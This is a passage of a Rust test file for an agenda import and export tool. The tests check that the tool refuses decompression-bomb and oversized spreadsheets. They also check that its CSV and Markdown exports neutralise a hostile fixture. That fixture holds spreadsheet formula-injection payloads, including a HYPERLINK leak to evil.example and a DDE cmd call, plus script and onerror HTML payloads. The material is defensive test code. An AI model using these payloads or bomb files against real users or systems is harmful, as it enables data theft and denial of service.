[[segment]]
title = "Late"
start = "22:30"
end = "23:59:30"
notes = "Line one\nLine two; with a semicolon"
cues = ["Lights down", "Play intro; loud"]
speakers = [ { name = "Ann", role = "Host", timezone = "Europe/Paris" }, { name = "Bo" } ]

[[segment]]
title = "Past midnight"
start = "23:59:30"
end = "00:50"
hard_end = true
moderator = { name = "Cy", organization = "ACME" }

[[segment]]
title = "Fold, second time round"
start = "2022-11-06T01:30:00-08:00"
duration = "45m"

[[segment]]
title = "Next evening"
date = 2022-11-06
start = "20:00"
end = "21:00"

[[contact]]
name = "Cy"
email = "cy@example.org"
"#;

#[test]
fn a_csv_export_imports_back_unchanged() {
    let dir = TempDir::new("round-trip");
    // The shipped show, updating a copy of itself and into a new file.
    let run = dir.run(&[
        "export",
        shipped().to_str().unwrap(),
        "--format",
        "csv",
        "-o",
        "seed.csv",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    dir.file("agenda.toml", &agenda_to_update());
    let back = dir.run(&["import", "seed.csv"]);
    assert_eq!(back.code, 0, "{}", back.stderr);
    assert_eq!(load(&dir.0.join("agenda.toml")), load(&shipped()));
    let fresh = dir.run(&["import", "seed.csv", "-o", "fresh.toml"]);
    assert_eq!(fresh.code, 0, "{}", fresh.stderr);
    assert_eq!(
        load(&dir.0.join("fresh.toml")).segments,
        load(&shipped()).segments
    );

    // Everything a sheet can hold, through CSV and back.
    let original = dir.file("everything.toml", EVERYTHING);
    let run = dir.run(&["export", "everything.toml", "-o", "everything.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sheet = dir.read("everything.csv");
    assert!(
        sheet.starts_with(
            "Date,Start (America/Los_Angeles),End (America/Los_Angeles),Duration,Title,"
        ),
        "{sheet}"
    );
    assert!(sheet.contains("2022-11-06T01:30:00-08:00"), "{sheet}");
    let copy = dir.file("copy.toml", EVERYTHING);
    let back = dir.run(&["import", "everything.csv", "-o", "copy.toml"]);
    assert_eq!(back.code, 0, "{}", back.stderr);
    assert_eq!(load(&copy), load(&original));
    let check = dir.run(&["check", "copy.toml"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    // A speaker's own zone gets its own column in their run-of-show.
    let ann = dir.run(&[
        "export",
        "copy.toml",
        "--format",
        "markdown",
        "--speaker",
        "ANN",
    ]);
    assert_eq!(ann.code, 0, "{}", ann.stderr);
    assert!(
        ann.stdout
            .contains("| # | LA | Sydney | Ann (Europe/Paris) | Length | Segment |"),
        "{}",
        ann.stdout
    );
    assert!(
        ann.stdout
            .contains("Your part of the show (1 of 4 segments)."),
        "{}",
        ann.stdout
    );
    // The moderator's contact with an email is the invitation's organizer.
    let cy = dir.run(&["export", "copy.toml", "--speaker", "Cy", "-o", "cy.ics"]);
    assert_eq!(cy.code, 0, "{}", cy.stderr);
    let ics = dir.read("cy.ics");
    assert!(
        ics.contains("ORGANIZER;CN=Cy:mailto:cy@example.org\r\n"),
        "{ics}"
    );
    assert!(ics.contains("CONTACT:Cy\\, cy@example.org\r\n"), "{ics}");
    assert!(ics.contains("SUMMARY:Past midnight\r\n"), "{ics}");
    assert_eq!(ics.matches("BEGIN:VEVENT").count(), 1, "{ics}");
    // One PRODID, one VERSION: a calendar has exactly one of each.
    assert_eq!(ics.matches("\r\nPRODID:").count(), 1, "{ics}");
    assert_eq!(ics.matches("\r\nVERSION:2.0\r\n").count(), 1, "{ics}");
    // Without --format, -o's extension says which.
    let unsure = dir.run(&["export", "copy.toml", "-o", "show.txt"]);
    assert_eq!(unsure.code, 1);
    assert_eq!(
        unsure.stderr,
        "error: give --format csv, ics or markdown (or -o a file ending .csv, .ics or .md)\n"
    );
    // A second trip changes nothing either.
    let again = dir.run(&["export", "copy.toml", "--format", "csv"]);
    assert_eq!(again.stdout, sheet);
}

const ZONES: [&str; 7] = [
    "America/Los_Angeles",
    "Australia/Sydney",
    "Australia/Lord_Howe",
    "Asia/Kathmandu",
    "Pacific/Chatham",
    "Europe/London",
    "Asia/Shanghai",
];

/// Instants a few hours before DST changes (Los Angeles, Sydney and Lord
/// Howe, London) and a New Year's Eve.
const NEAR: [&str; 6] = [
    "2022-03-13T06:00:00Z",
    "2022-11-06T05:00:00Z",
    "2022-04-02T12:00:00Z",
    "2022-10-01T12:00:00Z",
    "2022-10-30T22:00:00Z",
    "2022-12-31T20:00:00Z",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig {
        cases: 24,
        // Failures are reported with their smallest input; no files kept.
        failure_persistence: None,
        ..proptest::prelude::ProptestConfig::default()
    })]

    /// Any show, in any zone, across DST changes and midnights, with gaps
    /// long enough to need a date: export to CSV and import gives it back,
    /// into the agenda it came from and into a new one.
    #[test]
    fn any_show_survives_the_csv_round_trip(
        zone in 0..ZONES.len(),
        near in 0..NEAR.len(),
        offset_halves in 0u32..1440,
        slots in proptest::collection::vec((0u32..1500, 1u32..300, proptest::bool::ANY), 1..6),
    ) {
        let zone_name = ZONES[zone];
        let tz: chrono_tz::Tz = zone_name.parse().unwrap();
        let mut at = DateTime::parse_from_rfc3339(NEAR[near]).unwrap().to_utc()
            + chrono::TimeDelta::seconds(i64::from(offset_halves) * 30)
            + chrono::TimeDelta::minutes(i64::from(slots[0].0));
        let first_day = at.with_timezone(&tz).date_naive();
        let mut text = format!(
            "[event]\ntitle = \"Round trip\"\ndate = {first_day}\ntimezone = \"{zone_name}\"\n"
        );
        for (i, (gap, minutes, seconds)) in slots.iter().enumerate() {
            if i > 0 {
                at += chrono::TimeDelta::minutes(i64::from(*gap));
            }
            let length = chrono::TimeDelta::minutes(i64::from(*minutes))
                + chrono::TimeDelta::seconds(if *seconds { 30 } else { 0 });
            text.push_str(&format!(
                "\n[[segment]]\ntitle = \"Segment {i}\"\nstart = \"{}\"\nduration = \"{}\"\n",
                at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                showclock::timefmt::duration_words(length),
            ));
            at += length;
        }
        let dir = TempDir::new(&format!("prop-{zone}-{near}-{offset_halves}"));
        let original = dir.file("show.toml", &text);
        let exported = dir.run(&["export", "show.toml", "-o", "show.csv"]);
        proptest::prop_assert_eq!(exported.code, 0, "{}", exported.stderr);
        let copy = dir.file("copy.toml", &text);
        let back = dir.run(&["import", "show.csv", "-o", "copy.toml"]);
        proptest::prop_assert_eq!(back.code, 0, "{}\n{}", back.stderr, dir.read("show.csv"));
        proptest::prop_assert_eq!(load(&copy), load(&original));
        let fresh = dir.run(&["import", "show.csv", "-o", "fresh.toml"]);
        proptest::prop_assert_eq!(fresh.code, 0, "{}", fresh.stderr);
        proptest::prop_assert_eq!(load(&dir.0.join("fresh.toml")).segments, load(&original).segments);
    }
}

/// An OpenDocument cell: `("time", "PT09H00M00S")`, `("date", "2022-06-01")`,
/// `("float", "10")` or `("string", "text")`.
fn ods_cell((kind, value): (&str, &str)) -> String {
    match kind {
        "string" => format!(
            "<table:table-cell office:value-type=\"string\"><text:p>{value}</text:p></table:table-cell>"
        ),
        "" => "<table:table-cell/>".to_string(),
        other => format!(
            "<table:table-cell office:value-type=\"{other}\" office:{other}-value=\"{value}\"><text:p>{value}</text:p></table:table-cell>"
        )
        .replace("office:float-value", "office:value"),
    }
}

/// A LibreOffice Calc file: a zip with the mimetype first and stored, a
/// manifest, and the table in content.xml.
fn ods(path: &Path, sheet: &str, rows: &[Vec<(&str, &str)>]) {
    let body: String = rows
        .iter()
        .map(|row| {
            let cells: String = row.iter().copied().map(ods_cell).collect();
            format!("<table:table-row>{cells}</table:table-row>")
        })
        .collect();
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
         <office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\">\
         <office:body><office:spreadsheet><table:table table:name=\"{sheet}\">{body}</table:table>\
         </office:spreadsheet></office:body></office:document-content>"
    );
    ods_with_content(path, &content);
}

/// An .ods file whose content.xml is `content`.
fn ods_with_content(path: &Path, content: &str) {
    use std::io::Write;
    use zip::write::SimpleFileOptions;
    let manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
        <manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\">\
        <manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/>\
        <manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>\
        </manifest:manifest>";
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, text) in [
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", manifest),
        ("content.xml", content),
    ] {
        zip.start_file(name, stored).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
}

#[test]
fn a_libreoffice_sheet_with_time_date_and_number_cells() {
    let dir = TempDir::new("ods");
    let header = vec![
        ("string", "Day"),
        ("string", "Time"),
        ("string", "Length"),
        ("string", "Session"),
    ];
    ods(
        &dir.0.join("rundown.ods"),
        "Rundown",
        &[
            header.clone(),
            vec![
                ("date", "2022-11-05"),
                ("time", "PT23H30M00S"),
                ("float", "45"),
                ("string", "Late show"),
            ],
            vec![
                ("", ""),
                ("", ""),
                ("float", "30"),
                ("string", "Past midnight"),
            ],
        ],
    );
    let run = dir.run(&["import", "rundown.ods", "--timezone", "America/New_York"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let agenda = load(&dir.0.join("agenda.toml"));
    let starts: Vec<DateTime<Utc>> = agenda.segments.iter().map(|s| s.start).collect();
    assert_eq!(
        starts,
        [
            Utc.with_ymd_and_hms(2022, 11, 6, 3, 30, 0).unwrap(),
            Utc.with_ymd_and_hms(2022, 11, 6, 4, 15, 0).unwrap(),
        ]
    );
    assert_eq!(
        agenda.segments[1].end,
        Utc.with_ymd_and_hms(2022, 11, 6, 4, 45, 0).unwrap()
    );

    ods(
        &dir.0.join("bad.ods"),
        "Rundown",
        &[
            header,
            vec![
                ("", ""),
                ("string", "half nine"),
                ("float", "45"),
                ("string", "Late show"),
            ],
        ],
    );
    let bad = dir.run(&[
        "import",
        "bad.ods",
        "--timezone",
        "America/New_York",
        "--date",
        "2022-11-05",
        "-o",
        "bad.toml",
    ]);
    assert_eq!(
        bad.stderr.lines().next().unwrap(),
        r#"bad.ods:Rundown!B2: "half nine" is not a time: write it as 09:30, 9:30 AM or 2022-06-01 09:30"#
    );
    assert!(!dir.0.join("bad.toml").exists());
}

// ------------------------------------------------------- hostile sheets

/// What the kernel counted for a run of the binary: its wall time and its
/// peak resident memory. GNU time reports the peak of its own child (this
/// process's would count in a child it spawned itself: the kernel keeps the
/// high-water mark of the memory a child leaves at exec), and prlimit caps
/// the binary's address space at 1 GiB, so that a sheet that is not bounded
/// makes it fail rather than fill the machine.
struct Measured {
    run: Run,
    took: std::time::Duration,
    peak_mb: f64,
}

fn measured(dir: &Path, args: &[&str]) -> Measured {
    let report = dir.with_extension("time");
    let started = std::time::Instant::now();
    let output = Command::new("/usr/bin/time")
        .arg("-o")
        .arg(&report)
        .args(["-f", "%M", "prlimit", "--as=1073741824", "--"])
        .arg(env!("CARGO_BIN_EXE_showclock"))
        .args(args)
        .current_dir(dir)
        .env("TZ", "Pacific/Chatham")
        .output()
        .expect("GNU time runs (Debian package time)");
    let took = started.elapsed();
    let report = std::fs::read_to_string(&report).unwrap();
    let _ = std::fs::remove_file(dir.with_extension("time"));
    // The last line is the peak in KiB (a line before it may say a signal ended it).
    let peak_kib: f64 = report.lines().last().unwrap().trim().parse().unwrap();
    Measured {
        run: Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        },
        took,
        peak_mb: peak_kib / 1024.0,
    }
}

/// Imports the sheet `make` writes into an agenda that exists, and checks
/// that it is refused with `expected` in under 2 s and 256 MB, and that the
/// agenda is left byte for byte as it was, with nothing beside it.
fn refused(name: &str, make: impl FnOnce(&Path) -> &'static str, expected: &str) {
    let dir = TempDir::new(name);
    dir.file("agenda.toml", &agenda_to_update());
    let before = std::fs::read(dir.0.join("agenda.toml")).unwrap();
    let sheet = make(&dir.0);
    let size = std::fs::metadata(dir.0.join(sheet)).unwrap().len();
    let measured = measured(&dir.0, &["import", sheet]);
    let run = &measured.run;
    eprintln!(
        "{name}: {:.1} MB file refused in {:?}, peak {:.0} MB: {}",
        size as f64 / 1e6,
        measured.took,
        measured.peak_mb,
        run.stderr.lines().next().unwrap_or_default()
    );
    assert_eq!(run.code, 1, "{name}: {}", run.stderr);
    assert!(run.stderr.contains(expected), "{name}: {}", run.stderr);
    assert!(run.stderr.ends_with("\n") && !run.stderr.contains("panicked"));
    assert!(
        measured.took < std::time::Duration::from_secs(2),
        "{name}: took {:?}",
        measured.took
    );
    assert!(
        measured.peak_mb < 256.0,
        "{name}: peak {} MB",
        measured.peak_mb
    );
    assert_eq!(std::fs::read(dir.0.join("agenda.toml")).unwrap(), before);
    let mut names: Vec<String> = std::fs::read_dir(&dir.0)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["agenda.toml", sheet], "{name}: nothing written");
}

/// A workbook of a header and one row, with `far` at (row, column).
fn workbook_with_cell_at(path: &Path, (row, column): (u32, u16)) {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    for (c, text) in ["Start", "End", "Title"].iter().enumerate() {
        sheet.write_string(0, c as u16, *text).unwrap();
    }
    for (c, text) in ["09:00", "09:30", "Talk"].iter().enumerate() {
        sheet.write_string(1, c as u16, *text).unwrap();
    }
    sheet.write_string(row, column, "far").unwrap();
    workbook.save(path).unwrap();
}

/// A workbook whose part `name` is rewritten by `write` from its original
/// text: every other part as rust_xlsxwriter made it. Compressed at level 9,
/// which packs a run of one byte about a thousand to one.
fn workbook_with_part(path: &Path, name: &str, write: impl FnOnce(&str, &mut dyn std::io::Write)) {
    use std::io::{Read, Write};
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    for (c, text) in ["Start", "End", "Title", "Notes"].iter().enumerate() {
        sheet.write_string(0, c as u16, *text).unwrap();
    }
    for (c, text) in ["09:00", "09:30", "Talk", "HUGE"].iter().enumerate() {
        sheet.write_string(1, c as u16, *text).unwrap();
    }
    let original = workbook.save_to_buffer().unwrap();
    let mut source = zip::ZipArchive::new(std::io::Cursor::new(original)).unwrap();
    let options = zip::write::SimpleFileOptions::default().compression_level(Some(9));
    let mut out = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let mut write = Some(write);
    for index in 0..source.len() {
        let mut part = source.by_index(index).unwrap();
        let part_name = part.name().unwrap().to_string();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        out.start_file(part_name.as_str(), options).unwrap();
        match write.take_if(|_| part_name == name) {
            Some(write) => {
                let mut buffered = std::io::BufWriter::with_capacity(1 << 20, &mut out);
                write(&text, &mut buffered);
                buffered.flush().unwrap();
            }
            None => out.write_all(text.as_bytes()).unwrap(),
        }
    }
    assert!(write.is_none(), "the workbook has a part {name}");
    out.finish().unwrap();
}

/// `count` copies of `byte`, written a mebibyte at a time.
fn write_run(out: &mut dyn std::io::Write, byte: u8, count: usize) {
    let block = vec![byte; 1 << 20];
    for _ in 0..count >> 20 {
        out.write_all(&block).unwrap();
    }
}

#[test]
fn a_cell_far_out_is_refused_before_anything_is_allocated() {
    for (name, at, cell) in [
        ("zz300000", (299_999, 701), "ZZ300000"),
        ("xfd1048576", (1_048_575, 16_383), "XFD1048576"),
        ("xfd2000", (1_999, 16_383), "XFD2000"),
    ] {
        refused(
            name,
            |dir| {
                workbook_with_cell_at(&dir.join("far.xlsx"), at);
                "far.xlsx"
            },
            &format!(
                "far.xlsx:Sheet1!{cell}: this cell is beyond the 20000 rows and 64 columns (A to BL) \
                 a rundown sheet may use: clear it (and anything else that far out), or read another sheet"
            ),
        );
    }
}

#[test]
fn a_small_workbook_that_unpacks_to_gigabytes_is_refused() {
    refused(
        "shared-string",
        |dir| {
            workbook_with_part(
                &dir.join("bomb.xlsx"),
                "xl/sharedStrings.xml",
                |text, out| {
                    let (before, after) = text.split_once("HUGE").unwrap();
                    out.write_all(before.as_bytes()).unwrap();
                    write_run(out, b'a', 1 << 30);
                    out.write_all(after.as_bytes()).unwrap();
                },
            );
            let size = std::fs::metadata(dir.join("bomb.xlsx")).unwrap().len();
            assert!(size < 2_000_000, "a 1 GiB string in {size} bytes");
            "bomb.xlsx"
        },
        "bomb.xlsx: the workbook's xl/sharedStrings.xml unpacks to more than 16 MB",
    );
    refused(
        "whitespace",
        |dir| {
            workbook_with_part(
                &dir.join("spaces.xlsx"),
                "xl/worksheets/sheet1.xml",
                |text, out| {
                    let (before, after) = text.split_once("<sheetData>").unwrap();
                    out.write_all(before.as_bytes()).unwrap();
                    out.write_all(b"<sheetData>").unwrap();
                    write_run(out, b' ', 2 << 30);
                    out.write_all(after.as_bytes()).unwrap();
                },
            );
            let size = std::fs::metadata(dir.join("spaces.xlsx")).unwrap().len();
            assert!(size < 3_000_000, "2 GiB of spaces in {size} bytes");
            "spaces.xlsx"
        },
        "spaces.xlsx: the workbook's xl/worksheets/sheet1.xml unpacks to more than 16 MB",
    );
    refused(
        "million-rows-xlsx",
        |dir| {
            workbook_with_part(
                &dir.join("rows.xlsx"),
                "xl/worksheets/sheet1.xml",
                |text, out| {
                    let (before, rest) = text.split_once("</row>").unwrap();
                    let after = &rest[rest.find("</sheetData>").unwrap()..];
                    out.write_all(before.as_bytes()).unwrap();
                    out.write_all(b"</row>").unwrap();
                    for row in 2..=1_000_001 {
                        // Shared strings 4 and 6: "09:00" and "Talk".
                        write!(
                            out,
                            "<row r=\"{row}\"><c r=\"A{row}\" t=\"s\"><v>4</v></c>\
                             <c r=\"C{row}\" t=\"s\"><v>6</v></c></row>"
                        )
                        .unwrap();
                    }
                    out.write_all(after.as_bytes()).unwrap();
                },
            );
            "rows.xlsx"
        },
        "rows.xlsx: the workbook's xl/worksheets/sheet1.xml unpacks to more than 16 MB",
    );
}

#[test]
fn a_sheet_too_large_for_an_agenda_is_refused_before_writing() {
    refused(
        "million-rows-csv",
        |dir| {
            let mut sheet = String::from("Start,Title\n");
            for row in 0..1_000_000 {
                sheet.push_str(&format!("09:{:02},Talk {row}\n", row % 60));
            }
            std::fs::write(dir.join("rows.csv"), sheet).unwrap();
            "rows.csv"
        },
        "rows.csv: the file is larger than the 16 MB a rundown sheet may be",
    );
    refused(
        "one-huge-cell",
        |dir| {
            let mut file = std::fs::File::create(dir.join("cell.csv")).unwrap();
            use std::io::Write;
            file.write_all(b"Start,End,Title\n09:00,09:30,\"").unwrap();
            write_run(&mut file, b'x', 100 << 20);
            file.write_all(b"\"\n").unwrap();
            "cell.csv"
        },
        "cell.csv: the file is larger than the 16 MB a rundown sheet may be",
    );
    refused(
        "too-many-segments",
        |dir| {
            let mut sheet = String::from("Start,Duration,Title\n09:00,1,Talk 0\n");
            for row in 1..12_000 {
                sheet.push_str(&format!(",1,Talk {row}\n"));
            }
            std::fs::write(dir.join("many.csv"), sheet).unwrap();
            "many.csv"
        },
        "many.csv:C10002: a segment past the 10000 an agenda may have: split the show into several sheets",
    );
    refused(
        "past-the-rows",
        |dir| {
            let sheet = format!(
                "Start,End,Title\n09:00,09:30,Talk\n{}x\n",
                ",\n".repeat(20_000)
            );
            std::fs::write(dir.join("far.csv"), sheet).unwrap();
            "far.csv"
        },
        "far.csv:A20003: this cell is beyond the 20000 rows",
    );
    refused(
        "long-text",
        |dir| {
            let sheet = format!("Start,End,Title\n09:00,09:30,{}\n", "x".repeat(10_001));
            std::fs::write(dir.join("long.csv"), sheet).unwrap();
            "long.csv"
        },
        "long.csv:C2: the text is 10001 characters long: an agenda holds at most 10000 in one value",
    );
    // One shared string of 9,000 characters shown in the notes of 2,000
    // rows: a 1 MB sheet, an 18 MB agenda.
    refused(
        "repeated-notes",
        |dir| {
            let mut workbook = Workbook::new();
            let sheet = workbook.add_worksheet();
            for (c, text) in ["Start", "Duration", "Title", "Notes"].iter().enumerate() {
                sheet.write_string(0, c as u16, *text).unwrap();
            }
            let notes = "n".repeat(9_000);
            sheet.write_string(1, 0, "09:00").unwrap();
            for row in 1..=2_000 {
                sheet.write_number(row, 1, 1).unwrap();
                sheet.write_string(row, 2, format!("Talk {row}")).unwrap();
                sheet.write_string(row, 3, &notes).unwrap();
            }
            workbook.save(dir.join("notes.xlsx")).unwrap();
            "notes.xlsx"
        },
        "the agenda would hold more than the 16 MB an agenda may be",
    );
}

#[test]
fn an_opendocument_sheet_repeating_a_cell_far_out_is_refused() {
    refused(
        "ods-repeats",
        |dir| {
            let path = dir.join("repeats.ods");
            ods(
                &path,
                "Run",
                &[
                    vec![("string", "Start"), ("string", "End"), ("string", "Title")],
                    vec![("string", "09:00"), ("string", "09:30"), ("string", "Talk")],
                ],
            );
            // A row repeated a million times of a cell repeated 16,000 times.
            let text = std::fs::read(&path).unwrap();
            let mut archive = zip::ZipArchive::new(std::io::Cursor::new(text)).unwrap();
            let mut content = String::new();
            std::io::Read::read_to_string(
                &mut archive.by_name("content.xml").unwrap(),
                &mut content,
            )
            .unwrap();
            let bomb = "<table:table-row table:number-rows-repeated=\"1000000\">\
                <table:table-cell table:number-columns-repeated=\"16000\" office:value-type=\"string\">\
                <text:p>x</text:p></table:table-cell></table:table-row></table:table>";
            ods_with_content(&path, &content.replace("</table:table>", bomb));
            "repeats.ods"
        },
        "repeats.ods:Run!BM3: this cell is beyond the 20000 rows and 64 columns",
    );
}

// ------------------------------------------------ updating an agenda

/// The shipped show's times and titles only, as a producer keeps them: no
/// role, organisation, moderator or notes column. The panel starts five
/// minutes late and a break is added before the closing.
const TIMES_ONLY_CSV: &str = "\
Start,End,Title,Speakers
9:00 AM,9:10 AM,Welcome and Introduction,Cristiano Façanha; Huiming Gong
9:10 AM,9:25 AM,Technology and Commercialization Pathways and Timing for ZE-MHDVs in China,\"Baha M. Al-Alawi, PhD.; Owen MacDonnell\"
9:25 AM,9:40 AM,Zero-emission truck real-world performance in U.S. and Europe and implications for China,Yin Qiu; Shuhan Song
9:45 AM,10:10 AM,Panel Discussion,Yunshi WANG; Shiyue MAO; Zhe WANG; Ying XIONG
10:10 AM,10:25 AM,Q&A,
10:25 AM,10:28 AM,Break,
10:28 AM,10:30 AM,Closing,
";

#[test]
fn importing_into_an_agenda_keeps_what_the_sheet_lacks_and_the_old_agenda() {
    let dir = TempDir::new("merge");
    let original = shipped_text();
    dir.file("agenda.toml", &original);
    dir.file("rundown.csv", TIMES_ONLY_CSV);
    let run = dir.run(&["import", "rundown.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.stdout,
        "agenda.toml: updated with 7 segments from rundown.csv (2 changed, 1 added, 4 unchanged)\n\
         \x20 changed 4. \"Panel Discussion\": start 09:40 → 09:45\n\
         \x20 added   6. \"Break\", 10:25–10:28\n\
         \x20 changed 7. \"Closing\": start 10:25 → 10:28\n\
         \x20 kept from the agenda, where the sheet has no column for them: moderators, notes, organizations, roles\n\
         \x20 the old agenda is kept as agenda.toml.bak\n",
        "{}",
        run.stderr
    );
    // The old agenda, byte for byte; the new one keeps every person's role,
    // organisation and zone, both moderators and the notes.
    assert_eq!(dir.read("agenda.toml.bak"), original);
    let (old, new) = (load(&shipped()), load(&dir.0.join("agenda.toml")));
    assert_eq!(new.segments.len(), 7);
    for (before, after) in [(0, 0), (1, 1), (2, 2), (3, 3), (4, 4), (5, 6)] {
        let (before, after) = (&old.segments[before], &new.segments[after]);
        assert_eq!(after.title, before.title);
        assert_eq!(after.moderator, before.moderator, "{}", after.title);
        assert_eq!(after.speakers, before.speakers, "{}", after.title);
        assert_eq!(after.notes, before.notes, "{}", after.title);
    }
    assert_eq!(
        new.segments[4]
            .moderator
            .as_ref()
            .unwrap()
            .role_label
            .as_deref(),
        Some("Facilitated by")
    );
    assert_eq!((new.contacts, new.clocks), (old.contacts, old.clocks));

    // The same sheet again changes nothing and writes nothing.
    let again = dir.run(&["import", "rundown.csv"]);
    assert_eq!(
        again.stdout,
        "agenda.toml: already as rundown.csv says (7 segments): nothing written\n"
    );
    // A change with a backup there already: the old one gets a timestamp.
    let updated = dir.read("agenda.toml");
    dir.file("rundown.csv", &TIMES_ONLY_CSV.replace("Break", "Coffee"));
    let third = dir.run(&["import", "rundown.csv"]);
    assert_eq!(third.code, 0, "{}", third.stderr);
    let kept = third.stdout.lines().last().unwrap();
    let stamped = kept.strip_prefix("  the old agenda is kept as ").unwrap();
    assert!(stamped.starts_with("agenda.toml.bak-20"), "{kept}");
    assert_eq!(dir.read(stamped), updated);
    assert_eq!(dir.read("agenda.toml.bak"), original);
}

#[test]
fn every_bad_cell_is_told_in_one_run_however_it_is_found() {
    let dir = TempDir::new("all-at-once");
    dir.file("agenda.toml", &agenda_to_update());
    let before = dir.read("agenda.toml");
    // A cell that does not read (B2), a row out of order (A4), a duration
    // that disagrees with its end (C5), a row with no title (D6) and a last
    // row with no end (B7): found by three different passes.
    dir.file(
        "rundown.csv",
        "Start,End,Duration,Title\n\
         09:00,9h45,,Talk\n\
         09:45,10:00,,Second\n\
         09:30,09:40,,Out of order\n\
         10:00,10:30,20,Disagrees\n\
         10:30,10:40,,\n\
         10:40,,,Last\n",
    );
    let run = dir.run(&["import", "rundown.csv"]);
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr,
        "rundown.csv:B2: \"9h45\" is not a time: write 09:45\n\
         rundown.csv:A4: 09:30 is earlier than 10:00, the time above it, so it falls on the next day, 23h30m later: if that is meant, add a Date column, otherwise fix the time\n\
         rundown.csv:C5: the duration \"20\" does not match the end \"10:30\" (30m after the start): fix one of them, or clear the duration\n\
         rundown.csv:D6: this row has no title: write the segment's title (or clear the row)\n\
         rundown.csv:B7: the last row has no end: give it an end time or a duration\n\
         nothing written: fix the cells above and import again\n"
    );
    assert_eq!(dir.read("agenda.toml"), before);
}

// ---------------------------------------------------- safe to open

/// Agenda text a spreadsheet or a Markdown renderer would run.
const HOSTILE: &str = r#"[event]
title = "<script>alert(1)</script> & friends"
date = 2022-06-01
timezone = "UTC"

[[segment]]
title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
start = "09:00"
end = "09:10"
speakers = [ { name = "@SUM(1+1)*cmd|' /C calc'!A0", role = "+1 Director" } ]
notes = "-2+3 [x](javascript:alert(1)) ![](http://evil.example/p.png) <img src=x onerror=alert(1)> &lt;b&gt; *bold* `code`"

[[segment]]
title = "'=already quoted"
start = "09:10"
end = "09:20"
cues = ["\tTabbed", "=1+1"]
"#;

#[test]
fn a_csv_export_never_runs_a_formula_and_imports_back_as_written() {
    let dir = TempDir::new("formulas");
    dir.file("hostile.toml", HOSTILE);
    let run = dir.run(&["export", "hostile.toml", "-o", "hostile.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sheet = dir.read("hostile.csv");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(sheet.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    // No cell starts as a formula; each such text has a ' in front.
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run"
        );
    }
    for shown in [
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1 Director",
        "''=already quoted",
    ] {
        assert!(cells.iter().any(|c| c == shown), "{shown:?} in {cells:?}");
    }
    let back = dir.run(&["import", "hostile.csv", "-o", "back.toml"]);
    assert_eq!(back.code, 0, "{}", back.stderr);
    let (mut written, read) = (
        load(&dir.0.join("hostile.toml")),
        load(&dir.0.join("back.toml")),
    );
    // Import trims the spaces around a cell's text, a tab among them.
    written.segments[1].cues[0] = "Tabbed".into();
    assert_eq!(read.segments, written.segments);
}

#[test]
fn a_markdown_export_shows_html_and_links_as_text() {
    let dir = TempDir::new("markdown");
    dir.file("hostile.toml", HOSTILE);
    let run = dir.run(&["export", "hostile.toml", "--format", "markdown"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = run.stdout;
    for raw in ["<script", "<img", "[x](", "![](", "&lt;b"] {
        assert!(!text.contains(raw), "{raw:?} in {text}");
    }
    assert!(
        text.starts_with("# &lt;script&gt;alert(1)&lt;/script&gt; & friends\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "Notes: -2+3 \\[x\\](javascript:alert(1)) !\\[\\](http://evil.example/p.png) \
             &lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt; \\*bold\\* \\`code\\`"
        ),
        "{text}"
    );
    assert!(
        text.contains("- @SUM(1+1)\\*cmd\\|' /C calc'!A0, +1 Director"),
        "{text}"
    );
}

#[test]
fn a_second_language_column_gives_each_title_in_both_languages() {
    let dir = TempDir::new("second-language");
    let sheet = "Start,End,Title,Title (中文),Notes,Notes (zh-Hans)\n\
                 9:00,9:10,Welcome,欢迎致辞,Open on time,准时开场\n\
                 9:10,9:40,Panel Discussion,圆桌讨论,,\n\
                 9:40,9:55,Q&A,,,\n";
    dir.file("rundown.csv", sheet);
    let run = dir.run(&[
        "import",
        "rundown.csv",
        "--timezone",
        "Asia/Shanghai",
        "--date",
        "2022-06-01",
    ]);
